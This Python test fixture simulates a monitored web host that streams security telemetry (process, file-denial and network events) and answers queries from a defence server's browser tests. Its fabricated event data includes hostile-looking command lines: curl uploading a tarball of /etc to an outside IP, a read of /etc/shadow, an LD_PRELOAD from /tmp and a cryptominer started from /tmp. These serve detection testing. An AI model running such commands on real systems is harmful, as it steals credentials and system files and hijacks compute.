#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A host whose processes have lives, told in records of the form that the agent writes: who started whom, what was executed with
which arguments, what was refused, what ended how. Called by tests/browser/processes.mjs.

    lives.py PORT DIR TOKEN

Prints the host's id and the entities of the processes as one line of JSON, then does what standard input says, a word a line, and
answers "done": `end` (the editor ends), `more` (a shell begins another program), `silence` (the host asks for no more news).
`asked` says how many questions it has answered. Ends with its input.

Whoever looks at the host is answered: its processes, how they are scheduled, its defence, whose window two commands open and close.
"""

import json
import pathlib
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "security"))
from answers import Answers  # noqa: E402
from link import Host  # noqa: E402


class Rig:
    class server:
        port = 0

        @staticmethod
        def secret(_name, text):
            return text

    def __init__(self, port, place, token):
        self.server.port, self.place, self._token = port, pathlib.Path(place), token

    def token(self):
        return self._token


class Lives:
    """Processes by pid, and the records of what they do."""

    def __init__(self, host):
        self.host, self.boot, self.n = host, host.facts["boot_id"], 0
        self.now, self.known, self.lines = int(time.time() * 1000) - 3_600_000, {}, []

    def uid(self, pid):
        return f"{self.boot}:{pid}:{pid * 7}"

    def add(self, pid, parent, path, cmd, user="root", **more):
        self.known[pid] = {"pid": pid, "parent": parent, "path": path, "cmd": cmd, "user": user, "started": self.now, **more}

    def part(self, pid):
        p = self.known[pid]
        name = p["path"].rsplit("/", 1)[1]
        above, at = [], p["parent"]
        while at:
            above.append({"pid": at, "uid": self.uid(at), "path": self.known[at]["path"]})
            at = self.known[at]["parent"]
        part = {"pid": pid, "uid": self.uid(pid), "name": name, "cmd_line": p["cmd"], "created_time": p["started"],
                "file": {"path": p["path"], "name": name, "type_id": 8}, "user": {"uid": "0", "name": p["user"]}, "auid": 1000,
                "group": {"uid": "0", "name": p["user"]}}
        if above:
            part["parent_process"] = {**above[0], "name": above[0]["path"].rsplit("/", 1)[1]}
            part["ancestry"] = above
        return part

    def record(self, pid, message, **members):
        self.n += 1
        self.now += members.pop("after", 700)
        login = self.known[pid].get("login")
        actor = {"process": self.part(pid)}
        if login:
            actor = {"user": {"uid": "1000", "name": login}, "session": {"uid": "3", "issuer": "ssh", "is_remote": True}, **actor}
        self.lines.append({"category_uid": 1, "severity_id": 1, "status_id": 1, "device": {"hostname": self.host.name, "type_id": 0},
                           "metadata": {"version": "1.8.0", "uid": f"{self.boot}:7:process:0:{self.n}", "sequence": self.n},
                           "actor": actor, "time": self.now, "message": message,
                           "unmapped": {"cgroup": "/user.slice/user-1000.slice/session-3.scope"}, **members})

    def begin(self, parent, pid, path, cmd, user=None, process=(), unmapped=(), **more):
        """Forked by its parent, then another program."""
        old, login = self.known[parent], self.known[parent].get("login")
        self.add(pid, parent, old["path"], old["cmd"], old["user"], login=login)
        self.record(parent, f"started process {pid}", class_uid=1007, activity_id=1, launch_type_id=2, process=self.part(pid))
        before = self.part(pid)
        self.known[pid].update(path=path, cmd=cmd, user=user or old["user"])
        self.record(pid, f"executed {path}", class_uid=1007, activity_id=1, launch_type_id=3, **more)
        last = self.lines[-1]
        last["actor"]["process"] = before
        last["process"] = {**self.part(pid), "working_directory": "/srv/www", **dict(process)}
        last["unmapped"].update(argument_count=len(cmd.split()), **dict(unmapped))

    def refuse(self, pid, path, cmd, rule):
        self.record(pid, f"was not allowed to execute {path}", class_uid=1007, activity_id=1, launch_type_id=3, severity_id=3, status_id=2,
                    action_id=2, disposition_id=2, is_alert=True, policy={"name": "web-host"},
                    process={**self.part(pid), "name": path.rsplit("/", 1)[1], "cmd_line": cmd, "file": {"path": path}})
        self.lines[-1]["unmapped"].update(rule=rule, rule_file="/etc/safeguard/policies/50-web.yaml", rule_line=12, verdict="deny", mode="enforce")

    def deny(self, pid, path, rule, count=1):
        self.record(pid, f"was not allowed to open {path}", class_uid=1001, activity_id=14, severity_id=3, status_id=2, action_id=2,
                    disposition_id=2, is_alert=True, count=count, policy={"name": "web-host"}, file={"path": path, "name": path.rsplit("/", 1)[1]})
        self.lines[-1]["unmapped"].update(rule=rule, hook="file_open", access=["read"], verdict="deny", mode="enforce")

    def end(self, pid, code):
        self.known[pid]["ended"] = True
        self.record(pid, f"ended with {code}", class_uid=1007, activity_id=2, exit_code=code, process=self.part(pid))

    def send(self):
        lines = [json.dumps(line).encode() for line in self.lines]
        self.lines = []
        for at in range(0, len(lines), 40):
            answer = self.host.send(lines[at:at + 40])
            if answer.status != 200:
                raise RuntimeError(f"{answer} {answer.body}")


EVERYTHING = {
    "process": {"environment_variables": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}, {"name": "SSH_CONNECTION", "value": "198.51.100.7 51515 10.0.0.9 22"}],
                "session": {"uid": "3", "issuer": "ssh", "is_remote": True, "terminal": "pts/3"}},
    "unmapped": {"script": "/srv/backup.py", "script_file": {"hashes": [{"algorithm_id": 3, "value": "5c" * 32}], "product": {"name": "backup", "version": "2"}}, "arguments": ["python3", "/srv/backup.py", "--to", "/mnt/last backup"],
                 "descriptors": [{"fd": 0, "kind": "socket", "family": "inet", "protocol": 6, "local_endpoint": {"ip": "10.0.0.9", "port": 4444},
                                  "remote_endpoint": {"ip": "198.51.100.7", "port": 51515}},
                                 {"fd": 1, "kind": "tty", "path": "/dev/pts/3", "terminal": "pts/3"}, {"fd": 2, "kind": "file", "path": "/var/log/backup.log"}],
                 "capabilities": ["CAP_DAC_READ_SEARCH", "CAP_NET_RAW"], "namespaces": {"net": 4026532222}, "launch": ["secure"]},
}


def tell(s):
    s.add(1, 0, "/usr/lib/systemd/systemd", "/sbin/init")
    s.add(650, 1, "/usr/sbin/cron", "/usr/sbin/cron -f")
    s.add(700, 1, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
    s.add(812, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")
    s.add(2301, 812, "/usr/sbin/sshd", "sshd: ann [priv]", login="ann")
    s.begin(2301, 2310, "/usr/bin/bash", "-bash", user="ann")
    s.begin(650, 3001, "/bin/sh", "/bin/sh -c 'find /var/tmp -mtime +7 -delete'")
    s.begin(3001, 3002, "/usr/bin/find", "find /var/tmp -mtime +7 -delete")
    s.end(3002, 0)
    s.end(3001, 0)
    for worker in range(701, 705):
        s.begin(700, worker, "/usr/sbin/nginx", "nginx: worker process", user="www-data")
    s.begin(2310, 2401, "/usr/bin/python3.11", "python3 /srv/backup.py --to '/mnt/last backup'", **EVERYTHING)
    file = s.lines[-1]["process"]["file"]
    file.update(hashes=[{"algorithm_id": 3, "value": "00070e151c232a31383f464d545b626970777e858c939aa1a8afb6bdc4cbd2d9"}],
                product={"name": "python3.11-minimal", "version": "3.11.2-6+deb12u3"})
    s.begin(2401, 2402, "/usr/bin/tar", "tar --create --file /mnt/last-backup/etc.tar /etc")
    s.deny(2402, "/etc/shadow", "shadow", 3)
    s.end(2402, 2)
    s.begin(2401, 2403, "/usr/bin/curl", "curl -T /mnt/last-backup/etc.tar https://203.0.113.9/put")
    s.end(2403, 22)
    s.begin(2310, 2450, "/usr/bin/vim.basic", "vim notes.txt", process={"session": {"uid": "3", "terminal": "pts/3"}})
    s.refuse(2310, "/tmp/.x/miner", "/tmp/.x/miner --pool 203.0.113.66", "no programs in /tmp")
    for k in range(30):
        s.begin(2310, 2500 + k, "/usr/bin/ls", f"ls -l /srv/{k}")
        s.end(2500 + k, 0)
    s.now = max(s.now, int(time.time() * 1000) - 30_000)
    s.send()


class Now:
    """What the host says of itself when it is asked."""

    def __init__(self, s):
        self.s, self.until, self.by, self.attempts, self.looks = s, 0, None, 2, 0
        self.isolation = {"on": False, "in_force": False}

    def processes(self, args):
        """In two pieces."""
        living = [p for p in self.s.known.values() if not p.get("ended")]
        first = args["from"] == 0
        rows = [self.row(p) for p in (living[:6] if first else living[6:])]
        return {"now_ms": int(time.time() * 1000), "processes": rows, **({"next": 7} if first else {})}

    def row(self, p):
        pid, parent = p["pid"], p["parent"]
        row = {"pid": pid, "uid": self.s.uid(pid), "started_ms": p["started"], "comm": p["path"].rsplit("/", 1)[1], "program": p["path"],
               "command": p["cmd"], "user_id": 0, "user": p["user"]}
        if parent:
            row.update(parent=self.s.uid(99), below=self.s.uid(parent))
        if pid == 2:
            row["kernel_thread"] = True
        if pid == 2450:
            row.update(deleted=True, container="c0ffee" * 8)
        return row

    def scheduling(self, args):
        rows = [{**self.use(p), "cpu_permille": 10 * k} for k, p in enumerate(self.s.known.values()) if p["pid"] < 1000 and p["pid"] != 2]
        rows.sort(key=lambda r: -r["sched"]["wait_permille" if args["sort"] == "wait" else "switches"])
        return {"top": {"sample": 5, "interval_ns": 2_000_000_000, "since_start": False, "processes": 150, "scheduling": True,
                        "host": {"cpus": 4, "switches": 4310, "delay": {"count": 9, "mean_ns": 11_000, "p95_ns": 65_536, "max_ns": 786_432},
                                 "slot_ns": 1024, "delays": [0, 3, 12, 0, 1, 0], "lost": {}}, "rows": rows},
                "scheduling": {"rules": 2, "processes": 1, "groups": 1, "stopped": 4, "applied": 6, "failed": 1, "not_stopped": 0,
                               "error": {"what": "the controller cpu is not on in /system.slice", "cure": "name the group in the rule"}},
                "rules": [{"file": "/etc/safeguard/policies/70-batch.yaml", "line": 12, "values": {"weight": 20, "quota_permille": 2500},
                           "named_groups": True, "groups": ["/system.slice/batch.service"], "own_group": None, "processes": 0, "serving_groups": 1},
                          {"file": "/etc/safeguard/policies/70-batch.yaml", "line": 13, "values": {"cpus": "0-3", "nice": 10, "class": "batch"},
                           "named_groups": False, "groups": [], "own_group": "safeguard-9f2c1d7e0b3a4455", "processes": 1, "serving_groups": 0}]}

    def use(self, p):
        pid = p["pid"]
        return {"pid": pid, "process_uid": self.s.uid(pid), "name": p["path"].rsplit("/", 1)[1], "exe": p["path"], "command": p["cmd"], "user": p["user"], "uid": 0,
                "ended": False, "read_bytes": 0, "written_bytes": 0, "state": "S", "rss_bytes": 4096, "threads": 1,
                "sched": {"switches": 1000 - pid, "involuntary": 1, "on_permille": 5, "wait_permille": pid, "delay": {
                    "count": 4, "mean_ns": pid * 1000, "p95_ns": pid * 4000, "max_ns": pid * 9000}, "off_permille": {"sleep": 900, "io": 3, "lock": 1}}}

    def network(self, args):
        """A web server, whom it asks, and a scan of ports that failed."""
        now, nginx = int(time.time() * 1000), {"pid": 700, "process_uid": self.s.uid(700), "program": "/usr/sbin/nginx", "user": "www-data"}
        self.looks += 1
        flow = {**nginx, "protocol": 6, "incoming": False, "local": "10.0.0.7", "local_port": 40000, "remote": "10.0.0.12", "remote_port": 8080,
                "name": "app.internal", "begin_ms": now - 9000}
        what = args["what"]
        return {"network": {"now_ms": now, "flows": True, "dns": True, "flows_error": None, "dns_error": None, "more": 0, **{
            "flows": {"live": [{**nginx, "type": "listen", "protocol": 6, "local": "::", "local_port": 443},
                               {**flow, "type": "connect", "begin_ms": 1_000_000, "bytes_out": 1000, "bytes_in": 3_000_000 * self.looks, "rtt_us": 11_250}],
                      "closed": [{**flow, "type": "close", "reason": "refused", "remote": "2001:db8::9", "remote_port": 5432, "name": None, "end_ms": now - 8000,
                                  "bytes_out": 0, "bytes_in": 0, "error": "ECONNREFUSED"}]},
            "dns": {"questions": [{**nginx, "time_ms": now - 4000, "name": "app.internal", "type": "A", "server": "127.0.0.53", "rcode": "NoError", "duration_us": 900,
                                   "answers": [{"address": "10.0.0.12", "ttl": 5}]},
                                  {**nginx, "time_ms": now - 5000, "name": "silent.internal", "type": "A", "server": "127.0.0.53", "answers": []}]},
            "drops": {"drops": [{"reason": "NO_SOCKET", "place": "tcp_v4_rcv+0x9a", "protocol": 6, "service": 23, "packets": 4242, "bytes": 9, "last_ms": now,
                                 "source": "203.0.113.9", "destination": "10.0.0.7"}]},
            "map": {"edges": [{"program": "/usr/sbin/nginx", "name": "app.internal", "peer": "10.0.0.12", "port": 8080, "protocol": 6, "flows": 640, "bytes_in": 5, "bytes_out": 5},
                              {"program": "/usr/bin/backup", "peer_program": "/usr/bin/postgres", "peer": "127.0.0.1", "port": 5432, "protocol": 6, "flows": 3,
                               "failed": 1, "bytes_in": 9_000_000, "bytes_out": 5}]},
        }[what]}}

    def state(self):
        open_now = self.until > time.time() * 1000
        return {"state": "unlocked" if open_now else "locked", **({"unlocked_until_ms": self.until, "unlocked_by": self.by} if open_now else {}),
                "attempts": self.attempts, "repairs": 0}

    def defence(self, _args=None):
        now = int(time.time() * 1000)
        return {"defence": {**self.state(), "secret": True, "programs": 9, "missing": None, "refused": self.attempts},
                "self_test": {"time_ms": now - 2000, "rounds": 41, "failing": 0, "error": None}}

    def tell(self):
        """As a row, for the list of hosts."""
        rows = {name: {"help": name, "state": state, "attach": "lsm", "proved_ms": proved, "reason": None, "cure": None} for name, state, proved in (
            ("file_open", "proved", 1), ("sb_kern_mount", "untestable", None), ("uring_cmd", "unavailable", None), ("file_ioctl", "off", None))}
        rows["isolation"] = self.isolation
        rows["defence"] = {**self.state(), "self_test_ms": int(time.time() * 1000) - 90_000, "failing": 0}
        answer = self.s.host.send_state("health", {name: json.dumps(row) for name, row in rows.items()})
        if answer.status != 200:
            raise RuntimeError(f"{answer} {answer.body}")

    def unlock(self, args):
        self.until, self.by = int(time.time() * 1000) + args["for_ms"], f"the server's command: {args['reason']}"
        self.tell()
        return {"defence": self.defence()["defence"]}

    def isolate(self, args):
        now = int(time.time() * 1000)
        self.isolation = {"on": True, "in_force": True, "since_ms": now, "until_ms": now + args["for_ms"], "by": "the server's command 5",
                          "reason": args["reason"], "server": "192.0.2.2", "allow": args["allow"]}
        self.tell()

    def isolate_end(self, _args):
        self.isolation = {"on": False, "in_force": False}
        self.tell()

    def lock(self, _args):
        self.until = 0
        self.tell()
        return {"defence": self.defence()["defence"]}


def refused_lately(s):
    """What an agent tells of its defence: a Base Event."""
    s.lines.append({"activity_id": 99, "activity_name": "defence", "category_uid": 0, "class_uid": 0, "type_uid": 99, "severity_id": 4, "time": s.now,
                    "message": "refused: a signal to the agent (9), by process 2310 'bash' (uid 0, login uid 1000, parent 2301)",
                    "metadata": {"version": "1.8.0", "uid": f"{s.boot}:agent:1"}, "unmapped": {"notice": "defence", "pid": 2310}})


def talks(s):
    """A connection that ended, and the question before it."""
    ends = {"src_endpoint": {"ip": "10.0.0.7", "port": 40001, "zone": "private"}, "connection_info": {"direction_id": 2, "protocol_num": 6}}
    actor = {"process": {"pid": 703, "uid": s.uid(703), "name": "curl", "file": {"path": "/usr/bin/curl"}}}
    common = {"category_uid": 4, "severity_id": 1, "status_id": 1, "actor": actor, "unmapped": {}}
    s.lines.append({**common, **ends, "activity_id": 2, "activity_name": "Close", "class_uid": 4001, "type_uid": 400102, "time": s.now,
                    "metadata": {"version": "1.8.0", "uid": f"{s.boot}:network:1"}, "dst_endpoint": {"ip": "198.51.100.7", "port": 8443, "hostname": "api.example.net"},
                    "traffic": {"bytes": 3, "bytes_in": 1, "bytes_out": 2, "packets": 3, "packets_in": 1, "packets_out": 2},
                    "message": "curl (pid 703) ended its connection with 198.51.100.7:8443 (tcp), api.example.net"})
    s.lines.append({**common, **ends, "activity_id": 2, "activity_name": "Response", "class_uid": 4003, "type_uid": 400302, "time": s.now,
                    "metadata": {"version": "1.8.0", "uid": f"{s.boot}:network:2"}, "dst_endpoint": {"ip": "127.0.0.53", "port": 53},
                    "query": {"hostname": "api.example.net", "type": "A", "class": "IN"}, "rcode_id": 0, "rcode": "NoError",
                    "message": "curl (pid 703) asked 127.0.0.53:53 for api.example.net (A): 198.51.100.7"})


def main():
    rig = Rig(int(sys.argv[1]), sys.argv[2], sys.argv[3])
    host = Host(rig, "web-07")
    if host.hello().status != 200:
        raise RuntimeError("it says hello, and is not heard")
    s = Lives(host)
    s.add(2, 0, "/kthreadd", "")
    tell(s)
    refused_lately(s)
    talks(s)
    s.send()
    now = Now(s)
    now.tell()
    news = Answers(host, {"processes": now.processes, "scheduling": now.scheduling, "defence": now.defence, "network": now.network},
                   {"unlock": now.unlock, "lock": now.lock, "isolate": now.isolate, "isolate-end": now.isolate_end})
    news.start()
    print(json.dumps({"id": host.id, "uids": {str(pid): s.uid(pid) for pid in s.known}}), flush=True)
    for line in sys.stdin:
        if line.strip() == "asked":
            print(news.asked, flush=True)
            continue
        if line.strip() == "silence":
            news.silent.set()
        elif line.strip() == "end":
            s.end(2450, 0)
        elif line.strip() == "more":
            s.begin(2310, 2600, "/usr/bin/less", "less /var/log/backup.log")
        s.send()
        print(f"not well: {news.problem}" if news.problem else "done", flush=True)


if __name__ == "__main__":
    main()
